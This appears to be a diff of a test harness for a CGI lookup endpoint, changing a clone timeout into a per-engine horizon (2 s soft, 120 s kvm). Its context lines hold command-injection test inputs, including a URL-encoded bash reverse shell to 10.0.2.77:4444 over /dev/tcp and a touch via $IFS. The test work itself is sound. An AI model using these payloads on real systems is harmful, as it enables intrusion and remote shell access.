@@ -18,11 +18,14 @@ TWIN = "/cgi-bin/lookup?host=localhost&note=a;b"
 WRITES = "/cgi-bin/lookup?host=localhost;touch$IFS/var/www/touched/%s"
 CALLS = "/cgi-bin/lookup?host=localhost%3Bbash+-c+%27exec+3%3C%3E/dev/tcp/10.0.2.77/4444%27"
 # Time is the host's, and one that is emulated has little of it.
-SLOW = {"wall": "10 min", "horizon": "2 s", "handling_instructions": 1000000000000, "horizon_instructions": 1000000000000}
+SLOW = {"wall": "10 min", "handling_instructions": 1000000000000, "horizon_instructions": 1000000000000}
+# Of a clone on kvm that is time, too, and no less than it takes to do the work; one on soft has its own.
+HORIZON = {"soft": "2 s", "kvm": "120 s"}
 
 
 def stand_on_kvm(clones):
-    return Stand(sys.argv, guest={"engine": "kvm", "clone": {"engine": clones}}, service={"hold_time": "30 min"}, top={"clone": SLOW})
+    return Stand(sys.argv, guest={"engine": "kvm", "clone": {"engine": clones}}, service={"hold_time": "30 min"},
+                 top={"clone": dict(SLOW, horizon=HORIZON[clones])})
 
 
 def alert_of(stand, count):
